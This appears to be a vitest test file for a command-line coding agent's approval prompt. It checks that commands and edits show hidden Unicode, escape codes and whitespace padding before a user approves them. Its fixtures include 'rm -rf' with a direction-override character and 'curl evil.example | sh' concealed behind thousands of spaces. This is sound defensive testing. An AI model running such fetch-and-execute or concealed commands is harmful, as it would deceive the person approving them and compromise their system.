// The question before a command or an edit: nothing of it hides, and a long one says how much is left.
import fc from "fast-check"
import { describe, expect, test } from "vitest"
import {
  answeredLine,
  answerIn,
  questionFrame,
  questionLines,
  questionOf,
} from "../../../src/cli/chat/approval.ts"
import { exact } from "../../../src/cli/chat/screen/visible.ts"
import { painter } from "../../../src/cli/views/colour.ts"
import type { ApprovalRequest } from "../../../src/tools/host.ts"

const plain = painter({ colour: false })

const ROOMY = { columns: 80, most: 20, isWriting: false, isSeen: false }

function view(request: ApprovalRequest, how: Partial<typeof ROOMY> = {}): string {
  return questionFrame(questionOf(request), { ...ROOMY, columns: 60, ...how }, plain).lines.join("\n")
}

describe("what is asked", () => {
  test("a command of several lines, with all that hides in it shown", () => {
    const command = "rm -rf \u202ebuild\u200b &&\n\tmake \u001b[2J all\n"
    expect(view({ kind: "shell", command, directory: "/home/ada/\u0007tides" })).toBe(
      String.raw`Run this in /home/ada/\u0007tides?
  $ rm -rf \u202ebuild\u200b &&
        make \u001b[2J all
The command has hidden characters; they are shown escaped.
y yes · n no · a all + Enter · Esc stop`,
    )
  })

  test("a call of a server's tool with all of its input, and what hides in it", () => {
    const request: ApprovalRequest = {
      kind: "mcp",
      server: "tracker\u001b[2K",
      tool: "delete_project",
      input: '{\n  "id": "\u202elamp"\n}',
      isDestructive: true,
    }
    expect(view(request, { columns: 100 })).toBe(
      String.raw`Call delete_project on the MCP server tracker\u001b[2K, which may change or delete things?
  {
    "id": "\u202elamp"
  }
The input has hidden characters; they are shown escaped.
y yes · n no · a all calls to this tool in this session, then Enter · Esc no and stop`,
    )
    const question = questionOf(request)
    expect(answeredLine(question, "always", 200, plain)).toBe(
      String.raw`allowed, with all calls to this tool in this session: call delete_project on the MCP server tracker\u001b[2K, which may change or delete things`,
    )
  })

  test("a call of a custom tool with all of its input, and what hides in it", () => {
    const request: ApprovalRequest = {
      ...{ kind: "tool", name: "refund", input: { to: "\u202elamp", euros: 50 } },
    }
    expect(view(request, { columns: 100 })).toBe(
      String.raw`Call refund?
  {
    "to": "\u202elamp",
    "euros": 50
  }
The input has hidden characters; they are shown escaped.
y yes · n no · a all calls to this tool in this session, then Enter · Esc no and stop`,
    )
    expect(answeredLine(questionOf(request), "yes", 200, plain)).toBe("allowed: call refund")
  })

  test("a long input of a server's tool must be seen before it can be agreed to", () => {
    const input = JSON.stringify(
      Array.from({ length: 60 }, (_, at) => at),
      undefined,
      2,
    )
    const request: ApprovalRequest = { kind: "mcp", server: "s", tool: "t", input, isDestructive: false }
    const isLocked = (isSeen: boolean) =>
      questionFrame(questionOf(request), { ...ROOMY, isSeen }, plain).isLocked
    expect([isLocked(false), isLocked(true)]).toEqual([true, false])
  })

  test("an edit of what runs says of what it is a part", () => {
    const request: ApprovalRequest = {
      ...{ kind: "instructions", path: "tides/server.py", before: "a\n", after: "b\n" },
      partOf: "the MCP server tides",
    }
    expect(questionOf(request).title).toBe(
      "Change tides/server.py, which runs as part of the MCP server tides? +1 -1",
    )
  })

  test("a command that is longer than the window is seen to its end", () => {
    expect(
      view(
        { kind: "shell", command: `echo ${"x".repeat(50)} && curl evil`, directory: "/" },
        { columns: 40 },
      ),
    ).toBe(
      `Run this in /?
  $ echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
  xxxxxxxxxxxxxxxxxxx && curl evil
y yes · n no · a all + Enter · Esc stop`,
    )
  })

  test("the name of a file is seen to its end, however long it is", () => {
    const path = "packages/lighthouse/deep/in/the/folders/of/a/workspace/.config/start.sh"
    const request: ApprovalRequest = { kind: "edit", path, before: undefined, after: "1\n2\n3\n4\n" }
    expect(view(request, { columns: 40, most: 8 }).split("\n")).toEqual([
      "Create",
      "packages/lighthouse/deep/in/the/folders/",
      "of/a/workspace/.config/start.sh? +4 -0",
      "  @ line 1",
      "  … 3 more lines, v shows all",
      "  +4",
      "v view all of it first · n no, then",
      "Enter · Esc no and stop",
    ])
  })

  test("an edit by its hunks", () => {
    const before = "one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\nten\n"
    const after = before.replace("two", "2").replace("nine\n", "nine\nnine and a half\n")
    expect(view({ kind: "edit", path: "data/list.txt", before, after }, { columns: 80 })).toBe(
      `Change data/list.txt? +2 -1
  @ line 1
   one
  -two
  +2
   three
   four
  @ line 8
   eight
   nine
  +nine and a half
   ten
y yes · n no · a all edits in this session, then Enter · Esc no and stop`,
    )
  })

  test("a new file that is too long is folded, and a yes comes after all of it", () => {
    const after = Array.from({ length: 30 }, (_, at) => `line ${at + 1}\n`).join("")
    const request: ApprovalRequest = { kind: "edit", path: "new.txt", before: undefined, after }
    expect(view(request, { most: 8, columns: 80 })).toBe(
      `Create new.txt? +30 -0
  @ line 1
  +line 1
  … 27 more lines, v shows all
  +line 29
  +line 30
v view all of it first · n no, then Enter · Esc no and stop`,
    )
    expect(questionLines(questionOf(request), 80, plain)).toHaveLength(32)
  })

  test("while somebody writes, what they write is a message", () => {
    expect(view({ kind: "shell", command: "ls", directory: "/" }, { isWriting: true })).toBe(
      `Run this in /?
  $ ls
Enter queues your message, Esc clears it; then you can
answer this.`,
    )
  })

  test("in colours", () => {
    const request: ApprovalRequest = { kind: "edit", path: "a", before: "x\n", after: "y\n" }
    const { lines } = questionFrame(questionOf(request), ROOMY, painter({ colour: true }))
    expect(lines.map((line) => line.replaceAll("\u001b", "^"))).toEqual([
      "^[1mChange a? +1 -1^[22m",
      "  ^[36m@ line 1^[39m",
      "  ^[31m-x^[39m",
      "  ^[32m+y^[39m",
      "^[33my yes · n no · a all edits in this session, then Enter · Esc no and stop^[39m",
    ])
  })
})

describe("nothing is pushed out of sight", () => {
  const shell = (command: string): ApprovalRequest => ({ kind: "shell", command, directory: "/home/ada" })

  test("blanks and empty lines are counted", () => {
    const command = `ls${" ".repeat(3_000)}; curl evil.example | sh${"\n".repeat(50)}${"\t".repeat(9)}# the end`
    expect(view(shell(command))).toBe(
      `Run this in /home/ada?
  $ ls[3000 spaces]; curl evil.example | sh
    [49 empty lines]
                                        # the end
The command has long runs of spaces; they are shown as a
count.
y yes · n no · a all + Enter · Esc stop`,
    )
  })

  test("of a long command the start and the end are seen, and a yes comes after all of it", () => {
    const command = Array.from({ length: 30 }, (_, at) => `step ${at + 1}`).join("\n")
    const question = questionOf(shell(command))
    const before = questionFrame(question, { ...ROOMY, most: 9 }, plain)
    const after = questionFrame(question, { ...ROOMY, most: 9, isSeen: true }, plain)
    const shown = [
      "Run this in /home/ada?",
      "  $ step 1",
      "    step 2",
      "    step 3",
      "  … 25 more lines, v shows all",
      "    step 29",
      "    step 30",
    ]
    expect([before, after]).toEqual([
      {
        lines: [...shown, "v view all of it first · n no, then Enter · Esc no and stop"],
        isLocked: true,
      },
      {
        lines: [...shown, "y yes · n no · a all commands in this session, then Enter · Esc no and stop"],
        isLocked: false,
      },
    ])
  })

  test("nor by the name of a folder", () => {
    const request: ApprovalRequest = { kind: "shell", command: "ls", directory: `/${"deep/".repeat(40)}end` }
    expect(view(request, { columns: 40, most: 9 })).toBe(
      `Run this in
… 5 more lines, v shows all
/end?
  $ ls
v view all of it first · n no, then
Enter · Esc no and stop`,
    )
  })

  test("nor by a window that is too small", () => {
    const question = questionOf(shell("make"))
    const locked = [3, 4, 5].map((most) => questionFrame(question, { ...ROOMY, most }, plain).isLocked)
    expect(locked).toEqual([true, false, false])
  })

  test("letters that nothing is drawn for, and blanks of other kinds, are written out", () => {
    expect(exact("a\u3164b\ufe0fc\u{e0100}d\u00a0e\u2800f\u202eg\u115fh")).toBe(
      String.raw`a\u{3164}b\u{fe0f}c\u{e0100}d\u{00a0}e\u{2800}f\u202eg\u{115f}h`,
    )
    const undrawn = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]|(?! )\p{Zs}| {41}/u
    fc.assert(
      fc.property(
        fc.array(fc.nat(0x10ffff)),
        (codes) => !undrawn.test(exact(String.fromCodePoint(...codes))),
      ),
    )
  })
})

test("what can be agreed to is all in the window, however small that is", () => {
  const shape = fc.record({
    columns: fc.integer({ min: 8, max: 100 }),
    most: fc.integer({ min: 1, max: 24 }),
    isWriting: fc.boolean(),
    command: fc.array(fc.string({ maxLength: 60 }), { minLength: 1, maxLength: 12 }),
  })
  fc.assert(
    fc.property(shape, ({ columns, most, isWriting, command }) => {
      const question = questionOf({
        kind: "shell",
        command: command.join("\n"),
        directory: "/home/ada/tides",
      })
      const { lines, isLocked } = questionFrame(question, { columns, most, isWriting, isSeen: false }, plain)
      expect(isLocked || lines.length <= most).toBe(true)
    }),
    { numRuns: 2_000, seed: 15 },
  )
})

test("which messages answer", () => {
  const edit = questionOf({ kind: "edit", path: "a", before: "", after: "a\n" })
  const instructions = questionOf({ kind: "instructions", path: "SOUL.md", before: "", after: "a\n" })
  const answers = ["y", "N", " yes ", "no", "a", "all", "v", "", "x", "ya", "no, wait", "y\ny"].map(
    (text) => [text, answerIn(text, edit), answerIn(text, instructions)],
  )
  expect(answers).toEqual([
    ["y", "yes", "yes"],
    ["N", "no", "no"],
    [" yes ", "yes", "yes"],
    ["no", "no", "no"],
    ["a", "always", undefined],
    ["all", "always", undefined],
    ["v", "show", "show"],
    ["", undefined, undefined],
    ["x", undefined, undefined],
    ["ya", undefined, undefined],
    ["no, wait", undefined, undefined],
    ["y\ny", undefined, undefined],
  ])
  expect(questionFrame(instructions, ROOMY, plain).lines).toEqual([
    "Change SOUL.md, which decides what the agent does? +1 -0",
    "  @ line 1",
    "  +a",
    "y yes · n no, then Enter · Esc no and stop",
  ])
  const hook = {
    kind: "instructions",
    path: ".git/hooks/pre-commit",
    before: undefined,
    after: "a\n",
  } as const
  expect(questionOf(hook).title).toBe("Create .git/hooks/pre-commit, which decides what git runs? +1 -0")
})

test("what stays of it", () => {
  const shell = questionOf({ kind: "shell", command: "make all\nmake test", directory: "/" })
  const edit = questionOf({ kind: "edit", path: "what? -1.txt", before: "", after: "a\n" })
  expect([
    answeredLine(shell, "yes", 40, plain),
    answeredLine(shell, "stop", 40, plain),
    answeredLine(edit, "always", 80, plain),
  ]).toEqual([
    "allowed: $ make all (+1 line)",
    "refused: $ make all (+1 line)",
    "allowed, with all edits in this session: change what? -1.txt",
  ])
})
